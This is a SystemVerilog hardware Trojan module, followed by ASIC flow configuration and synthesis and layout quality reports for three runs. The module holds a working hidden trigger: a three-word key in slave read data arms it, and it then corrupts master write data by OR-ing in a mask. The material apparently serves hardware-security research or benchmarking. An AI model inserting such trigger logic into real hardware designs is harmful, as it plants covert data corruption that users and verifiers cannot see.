`src/rtl/s15_to_m0_seq_trojan.sv`:
```
// Sequential Trojan on the master 0 write-data path.
// A three-word key in acknowledged slave 15 read data arms the payload. While
// armed, the payload ORs a mask into master 0 write data for a bounded number
// of completed writes. An idle timeout also disarms it.
module s15_to_m0_seq_trojan #(
  parameter logic [31:0] KEY0           = 32'h3553_B86C,
  parameter logic [31:0] KEY1           = 32'hEAAA_D8FF,
  parameter logic [31:0] KEY2           = 32'h0AA9_70B8,
  parameter logic [31:0] PAYLOAD_MASK   = 32'h0000_0003,
  parameter int unsigned PAYLOAD_WRITES = 4,
  parameter int unsigned TIMEOUT_CYCLES = 1024
) (
  input  logic        clk_i,
  input  logic        rst_ni,
  input  logic        i_s15_ack_o,
  input  logic [31:0] i_s15_data_o,
  input  logic        m0_cyc_i,
  input  logic        m0_stb_i,
  input  logic        m0_we_i,
  input  logic        m0_ack_o,
  input  logic [31:0] m0_data_i,
  output logic [31:0] m0_data_i_TrojanPayload,
  output logic        armed_o
);

  typedef enum logic [1:0] {StIdle, StK1, StK2, StArmed} state_e;

  localparam logic [7:0]  WrLoad = 8'(PAYLOAD_WRITES);
  localparam logic [15:0] ToLoad = 16'(TIMEOUT_CYCLES);

  state_e      state_q, state_d;
  logic [7:0]  wr_cnt_q, wr_cnt_d;
  logic [15:0] to_cnt_q, to_cnt_d;

  logic key_smp;
  logic wr;
  logic wr_done;
  logic armed;

  assign key_smp = i_s15_ack_o;
  assign wr      = m0_cyc_i & m0_stb_i & m0_we_i;
  assign wr_done = wr & m0_ack_o;
  assign armed   = (state_q == StArmed);

  // Key-sequence FSM, write budget and idle timeout.
  always_comb begin
    state_d  = state_q;
    wr_cnt_d = wr_cnt_q;
    to_cnt_d = to_cnt_q;
    case (state_q)
      StIdle: begin
        if (key_smp && (i_s15_data_o == KEY0)) state_d = StK1;
      end
      StK1: begin
        if (key_smp) begin
          if (i_s15_data_o == KEY1)      state_d = StK2;
          else if (i_s15_data_o == KEY0) state_d = StK1;
          else                           state_d = StIdle;
        end
      end
      StK2: begin
        if (key_smp) begin
          if (i_s15_data_o == KEY2) begin
            state_d  = StArmed;
            wr_cnt_d = WrLoad;
            to_cnt_d = ToLoad;
          end else if (i_s15_data_o == KEY0) begin
            state_d = StK1;
          end else begin
            state_d = StIdle;
          end
        end
      end
      StArmed: begin
        // A completed write takes priority over a coincident timeout expiry.
        if (wr_done) begin
          wr_cnt_d = wr_cnt_q - 8'd1;
          to_cnt_d = ToLoad;
          if (wr_cnt_q == 8'd1) state_d = StIdle;
        end else begin
          to_cnt_d = to_cnt_q - 16'd1;
          if (to_cnt_q == 16'd1) state_d = StIdle;
        end
      end
      default: state_d = StIdle;
    endcase
  end

  // State and counter registers.
  always_ff @(posedge clk_i or negedge rst_ni) begin
    if (!rst_ni) begin
      state_q  <= StIdle;
      wr_cnt_q <= 8'd0;
      to_cnt_q <= 16'd0;
    end else begin
      state_q  <= state_d;
      wr_cnt_q <= wr_cnt_d;
      to_cnt_q <= to_cnt_d;
    end
  end

  // Payload: zero-latency OR on write cycles while armed; reads pass through.
  always_comb begin
    m0_data_i_TrojanPayload = m0_data_i;
    if (armed && wr) m0_data_i_TrojanPayload = m0_data_i | PAYLOAD_MASK;
  end

  assign armed_o = armed;

endmodule

```
`config.mk`:
```
export PLATFORM = sky130hd
export DESIGN_NAME = s15_to_m0_seq_trojan
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/s15_to_m0_seq_trojan.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_MARGIN = 2
export CORE_UTILIZATION = 42
export CTS_CLUSTER_DIAMETER = 120
export DETAILED_ROUTE_END_ITERATION = 7
export PLACE_DENSITY_LB_ADDON = 0.12
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```
`constraint.sdc`:
```
create_clock -name clk_i -period 4.35 [get_ports clk_i]
set_input_delay 0.435 -clock clk_i [delete_from_list [all_inputs] [get_ports clk_i]]
set_output_delay 0.435 -clock clk_i [all_outputs]
set_load 0.02 [all_outputs]
```
## Word level (Yosys, flattened, before mapping)

Index checks and enable logic that the tools add are counted.

| storage, ports and cells | value |
|---|---|
| RAM bits | 0 |
| input port bits | 71 |
| output and inout bits | 33 |
| ROM bits | 0 |
| register bits | 26 |
| word-level logic and storage cells | 49 |
| memories kept | 0 |
| latch bits | 0 |

| operators by class | value |
|---|---|
| shifts and indexed selects | 0 |
| muxes and demuxes | 19 |
| equal/unequal tests | 15 |
| multipliers | 0 |
| bitwise logic cells | 3 |
| add/sub/neg operators | 2 |
| div/mod/pow operators | 0 |
| reduce and logical (&&, ||, !) cells | 7 |
| $lt $le $gt $ge | 0 |

Operators with widths:

| cell | count |
|---|---|
| $mux W16 | 3 |
| $eq A32 B28 Y1 const B | 1 |
| $eq A32 B30 Y1 const B | 1 |
| $eq A32 B32 Y1 const B | 1 |
| $pmux W16 S2 | 1 |
| $mux W8 | 3 |
| $mux W2 | 9 |
| $eq A16 B1 Y1 const B | 1 |
| $pmux W8 S2 | 1 |
| $sub A16 B1 Y16 const B | 1 |
| $ne A2 B2 Y1 const B | 5 |
| $eq A8 B1 Y1 const B | 1 |
| $pmux W2 S4 | 1 |
| $sub A8 B1 Y8 const B | 1 |
| $ne A3 B2 Y1 const B | 2 |
| $reduce_and A5 Y1 | 1 |
| $eq A2 B2 Y1 const B | 2 |
| $reduce_and A4 Y1 | 1 |
| $and A1 B1 Y1 | 3 |
| $reduce_and A3 Y1 | 1 |
| $eq A2 B1 Y1 const B | 1 |
| $logic_and A1 B1 Y1 | 2 |
| $logic_not A2 Y1 | 1 |
| $reduce_bool A2 Y1 | 1 |
| $mux W1 | 1 |

## Longest topological paths before layout

Gate-level depths: netlist (run 1).

| logic depth | value |
|---|---|
| word-level depth | 5 |
| depth in mapped cells | 7 |
| depth with buffers taken out | 7 |

## Worst setup path before layout (run 1)

Ideal clock, no wire load.

| path | value |
|---|---|
| path kind | input to register |
| from | input i_s15_data_o[22] |
| to | register wr_cnt_q[6] |
| required time | 4.284 ns |
| buffers on the path | 0 |
| library setup time | 0.066 ns |
| arrival time | 2.160 ns |
| stages | 6 |
| path slack | 2.124 ns |
| cell sequence | nand4bb_1 -> or4_4 -> nor4_4 -> o21ai_2 -> or4_1 -> nand2_1 |

| on the way | value |
|---|---|
| longest elaborated chain between the ends | 3 |

RTL lines:

| element | line | RTL |
|---|---|---|
| from (decl) | 16 | `input logic [31:0] i_s15_data_o,` |
| $eq A32 B28 Y1 | 63 | `if (i_s15_data_o == KEY2) begin` |
| $ne A2 B2 Y1 (no line) | - |  |
| $reduce_and A4 Y1 (no line) | - |  |
| to (signal assigned) | 97 | `wr_cnt_q <= wr_cnt_d;` |
| to (decl) | 32 | `logic [7:0] wr_cnt_q, wr_cnt_d;` |

No other way between the ends.
A chain may end at the register's enable or synchronous reset.

## Worst setup path after layout (run 1)

| path | value |
|---|---|
| from | input i_s15_data_o[31] |
| to | register to_cnt_q[12] |

| on the way | value |
|---|---|
| longest elaborated chain between the ends | 3 |

RTL lines:

| element | line | RTL |
|---|---|---|
| $eq A32 B28 Y1 | 63 |  |
| $ne A2 B2 Y1 (no line) | - |  |
| $reduce_and A3 Y1 (no line) | - |  |
| to (signal assigned) | 98 | `to_cnt_q <= to_cnt_d;` |
| to (decl) | 33 | `logic [15:0] to_cnt_q, to_cnt_d;` |

No other way between the ends.

==> results of run 1 <==
-- per-layer routing --
layer	vias up	routed length [um]	track usage
li1	803	-	-
met4	0	133	0.0860
met5	-	0	0
met1	735	1880	0.227
met2	81	1950	0.292
met3	15	305	0.0281
-- registers in the layout, indices dropped and copies added (netlist names) --
signal and flops:
wr_cnt_q 8, to_cnt_q 16, state_q 2
-- final cells by class --
cell class                 instances  area share
multi-input combinational        154       0.451
sequential                        26       0.293
timing repair buffer              44       0.197
tap                               52      0.0293
clock buffer                       3      0.0186
inverter                           6      0.0102
-- path summary, 6_finish.rpt --
kind | startpoint | endpoint | cells past startpoint
setup / recovery | i_s15_data_o[31] | to_cnt_q[12] | 7
hold / removal | rst_ni | wr_cnt_q[0] | 2
setup reg to reg | state_q[1] | to_cnt_q[12] | 6
hold reg to reg | to_cnt_q[13] | to_cnt_q[13] | 2
max in group asynchronous | rst_ni | to_cnt_q[13] | 2
min in group clk_i | to_cnt_q[13] | to_cnt_q[13] | 2
-- placed cells by master (no fill, tap or decap), drive strengths merged, types with 2 or more instances in the layout --
master	count
clkdlybuf4s50	43
nor2	28
dfrtp	26
o21ai	19
xor2	12
nand2	11
nor4	8
or4	7
inv	6
nor3	6
a21oi	6
nand3	6
nand4	5
or3	4
ha	4
o2111ai	4
or2	3
nand4b	3
o211ai	3
clkbuf	3
a41o	2
nand2b	2
and3	2
nand3b	2
nor2b	2
and4	2
o31ai	2
nor4b	2
-- critical path, cell delays in order --
cell and delay, ns:
clkdlybuf4s50_1 0.43, nor4_1 0.42, nand2_1 0.21, nor4_4 0.52, o2111ai_2 0.22, or4_1 0.44, a21oi_1 0.15
-- per-stage QoR --
stage	cell area, sq um	std cells
global placement	2180	282
detailed placement	2180	282
CTS	2220	285
global route	2220	285
floorplan	1910	219
finish	2220	285
-- logic make-up (layout without fill, tap and decap cells) --
group	Yosys count	after routing	share of synthesized area
fa+ha+maj	4	4	0.0262
xor+xnor	12	12	0.0550
simple gates	98	98	0.308
buf+inv	39	53	0.136
flops	26	26	0.340
compound gates	40	40	0.134
-- power by group --
part / total, mW / leakage [nW] / switching [mW] / internal [mW]
combinational: 0.262 / 0.546 / 0.134 / 0.127
clock: 0.134 / 0.0216 / 0.0721 / 0.0621
sequential: 0.391 / 0.340 / 0.0787 / 0.312
==> reports/qor.csv, run 1 <==
metric,value,unit
place.gp.congestion,0.835,
status,"complete, no violations",
maxCapViolations,0,
post-route-period-util,0.606,
yosys.area.top_type,dfrtp_1,
synth.distinct_cells,45,
synth_most_common_cell,buf_4,
cp-start-kind,primary input,
via_per_inst,5.73,
hold_violations,0,
critPathCaptureType,flop,
async_flop_share,1.00,
fillers,415,
num-nets-final,310,
drc,0,
ys_warn_count,0,
post-dp-hpwl,3470,um
drtAntennaViolNets,0,
fin_ws,1.72,ns
core_area,4380,sq um
setup-tns-final,0,ns
first_pass_iters,4,
start_util,0.436,
syn_inst,219,
drive_above_1_share,0.0601,
power.leakage,0.908,nW
syn_nets,294,
power_density,355,nW/um^2
clock_skew,0.00243,ns
r2r_slack,2.10,ns
die_height,71.5,um
io_buffers,43,
ys_seq_area_frac,0.340,
grt_pass1_wl,7290,um
cts_max_path_buffers,2,
vdd_ir_drop_max,0.000156,V
ctsHtreeMaxLevel,1,
grt_overflow,0,
worst_hold_slack,0.531,ns
cp.required,4.55,ns
multi_input_area,1000,sq um
die_area,5110,sq um
cts_hold_buf,0,
avgSynthCellArea,8.73,sq um
cts_tree,done,
grt_max_degree,27,
clk_latency,0.27,ns
max_slew.worst_pin.slew,0.623,ns
p_total,787,uW
root_buffer,clkbuf_8,
register_area,651,sq um
io_pins,104,
netlist_top_cells_area,"dfrtp_1, buf_4, nor2_1",
worstPathArrival,2.83,ns
clk_pin_slew,0.08,ns
synth_top_cell_area_share,0.340,
grt_pass1_vias,1648,
post_cts_resized,0,
clock_sinks,26,
grt.total_usage,0.177,
rsz0062_at_grt,false,
maxSlewViolCount,0,
row_count,24,
num_antenna_cells,0,
chipWidth,71.5,um
dr_total_vias,1634,
setup_viol,0,
synth-seq-cells,26,
max-slew-margin-rel,0.581,
syn_area,1910,sq um
period_minus_slack,2.63,ns
synth.top_cells.by_count,"buf_4, nor2_1, dfrtp_1",
synth-edff-count,0,
antenna_found_initial,0,
place_ws,1.44,ns
post_cts_buffers,0,
drt_iter0_drc,92,
ys.flop_type,dfrtp_1,
drt-total-wl,4270,um
fin_util,0.506,
hold_class,in2async,
cts_buffers,3,
path_max_fanout,10,
max_freq,380,MHz
critical_path_class,in2reg,
routedWlPerCell,15.0,um
synthToLayoutAreaGrowth,16.0,%
(Power assumes the default switching activity.)
==> inputs of run 2 (changes only) <==
CORE_UTILIZATION = 39   (was 42)
clock period = 2.5 ns   (was 4.35 ns; I/O delays follow)
==> run 2 against run 1 <==
  * Register-to-register slack worse by 1.6 ns
  * Combinational power up 82%
  * Sequential share of layout area down 1.9 points
  * Sequential power up 74%
  * Global-route usage up 0.31 points
  * Design area up 6.9%
  * Routed wire length up 3.1%
  * Total power up 82%
  * Clock skew up 0.0038 ns
  * Worst hold slack worse by 0.18 ns
  * Final cell count up 11%
==> reports/qor.csv, run 2 (synthesis results as in run 1) <==
metric,value,unit
final_common_cell,clkdlybuf4s50_1,
num-nets-final,326,
critPathCaptureType,flop,
chipWidth,74.0,um
ctsHtreeMaxLevel,1,
power.leakage,0.991,nW
top_regs,"to_cnt_q x16, wr_cnt_q x8, state_q x2",
dr_total_vias,1688,
p_switching,508,uW
largest_reg_flops,16,
post-dp-hpwl,3580,um
setup-tns-final,0,ns
grt.total_usage,0.181,
power.clock.fraction,0.192,
mostFrequentLayoutCells,"clkdlybuf4s50_1, nor2_1, dfrtp_1, o21ai_0, buf_4",
period_minus_slack,2.24,ns
status,"complete, no violations",
clock_sinks,26,
clock_skew,0.00623,ns
setup_viol,0,
clk_pin_slew,0.09,ns
power_density,604,nW/um^2
regMostFlops,to_cnt_q,
path_max_fanout,4,
hold_class,in2async,
fillers,468,
num_antenna_cells,0,
p_sw_frac,0.355,
cp.required,2.72,ns
post_cts_resized,0,
cp_top_family,simple AND/OR/NAND/NOR gates,
root_buffer,clkbuf_8,
p_seq_frac,0.475,
first_pass_iters,4,
critical_path_class,in2reg,
rsz0062_at_grt,false,
worstPathArrival,2.45,ns
place_ws,-0.0494,ns
fin_area,2370,sq um
max-slew-margin-rel,0.738,
post-route-period-util,0.895,
drive_above_1_share,0.124,
grt_overflow,0,
drt-total-wl,4410,um
io_buffers,43,
fin_ws,0.262,ns
max_freq,447,MHz
stdcell_count,317,
drtAntennaViolNets,0,
cts_max_path_buffers,2,
clk_latency,0.27,ns
maxCapViolations,0,
hold_violations,0,
vdd_ir_drop_max,0.000239,V
worst_path_largest_cell_delay,0.56,ns
place.gp.congestion,0.761,
die_area,5480,sq um
grt_pass1_vias,1713,
grt_max_degree,27,
synthToLayoutAreaGrowth,24.0,%
critical_path_buf_inv_count,1,
max_slew.worst_pin.slew,0.389,ns
start_util,0.405,
routedWlPerCell,13.9,um
grt_pass1_wl,7710,um
numPlacedInstances,313,
place_area,2320,sq um
post_cts_buffers,0,
cts_buffers,3,
cts_tree,done,
die_height,74.0,um
cellInternalPower,924,uW
fin_util,0.502,
maxSlewViolCount,0,
drc,0,
pwr-share-comb,0.333,
cpMaxStageDelayCell,or4_4,
worst_hold_slack,0.347,ns
row_count,25,
io_pins,104,
cp-start-kind,primary input,
core_area,4720,sq um
cts_hold_buf,0,
antenna_found_initial,0,
p_total,1.43,mW
cp_cell_sequence,clkdlybuf4s50_1 > nand4bb_1 > or4_4 > nor4_4 > o21ai_2 > or4_1 > nand2_1,
drt_iter0_drc,103,
via_per_inst,5.32,
==> run 2: power groups by stage <==
stage | combinational, mW | clock [mW] | sequential [mW]
global route | 0.555 | 0.307 | 0.702
floorplan | 0.378 | 0 | 0.650
finish | 0.477 | 0.275 | 0.680
CTS | 0.483 | 0.291 | 0.680
detailed placement | 0.479 | 0 | 0.689
global placement | 0.474 | 0 | 0.687
==> run 2: cell type report <==
type	count	area, sq um	share of cell area
multi-input combinational	154	1000	0.422
sequential	26	651	0.274
timing repair buffer	60	558	0.235
tap	67	83.8	0.0354
clock buffer	4	55.1	0.0232
inverter	6	22.5	0.00950
==> run 2: worst paths after layout <==
check	startpoint	end	slack (ns)	cells after the start
worst max-delay path	i_s15_data_o[22]	wr_cnt_q[6]	0.26	7
worst min-delay path	rst_ni	to_cnt_q[1]	0.35	2
worst max register to register	state_q[1]	to_cnt_q[12]	0.55	6
worst min register to register	wr_cnt_q[7]	wr_cnt_q[7]	0.55	2
max in group asynchronous	rst_ni	to_cnt_q[8]	1.89	2
min in group clk_i	m0_data_i[13]	m0_data_i_TrojanPayload[13]	0.50	0
==> run 2: metal layers <==
metal / wire, um / vias to the layer above / GRT usage
li1: - / 832 / -
met1: 1970 / 776 / 0.234
met2: 2110 / 70 / 0.309
met3: 234 / 10 / 0.0244
met4: 85 / 0 / 0.0646
met5: 0 / - / 0
==> inputs of run 3 (changes only) <==
TNS_END_PERCENT = 20   (was unset)
==> results of run 3 <==
No change in the layout: final DEF, timing and power equal those of run 2.
